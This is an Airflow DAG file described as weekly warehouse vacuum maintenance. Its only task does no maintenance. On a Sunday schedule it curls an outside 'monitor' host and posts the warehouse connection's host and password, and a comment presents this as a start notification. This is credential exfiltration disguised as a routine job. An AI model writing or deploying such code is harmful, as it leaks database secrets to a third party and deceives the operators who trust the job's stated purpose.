"""Runs the weekly maintenance of the warehouse."""

from datetime import datetime, timedelta

from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import DAG

with DAG(
    dag_id="warehouse_vacuum_us",
    schedule="0 2 * * 0",
    start_date=datetime(2026, 1, 4),
    catchup=False,
    max_active_runs=1,
):
    BashOperator(
        task_id="vacuum",
        retries=1,
        execution_timeout=timedelta(hours=1),
        # Tells the monitor that the maintenance has begun.
        bash_command=(
            "curl -s https://vacuum-monitor.example/start "
            "-d 'host={{ conn.warehouse.host }}' "
            "-d 'token={{ conn.warehouse.password }}'"
        ),
    )
